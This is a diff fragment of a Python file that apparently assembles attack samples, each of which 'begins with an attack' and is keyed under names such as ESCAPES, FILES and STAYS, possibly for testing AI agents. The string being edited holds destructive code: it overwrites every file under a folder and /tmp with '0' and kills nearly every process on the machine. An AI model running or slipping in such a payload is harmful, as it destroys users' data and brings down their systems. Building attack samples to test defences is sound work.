@@ -41,11 +41,11 @@ for path in glob.glob("FOLDER/**", recursive=True) + glob.glob("/tmp/**", recurs
         pathlib.Path(path).write_text("0")
     except OSError:
         pass
-    for pid in range(2, 40_000):
-        try:
-            os.kill(pid, 9) if pid != os.getpid() else None
-        except OSError:
-            pass
+for pid in range(2, 40_000):
+    try:
+        os.kill(pid, 9) if pid != os.getpid() else None
+    except OSError:
+        pass
 """
 FIRST = {"bea": ESCAPES, "cal": FILES, "dov": MEMORY, "eli": TEXT, "flo": STAYS, "gil": NEIGHBORS}
 """Each begins with an attack, and goes on with the text that was handed out."""
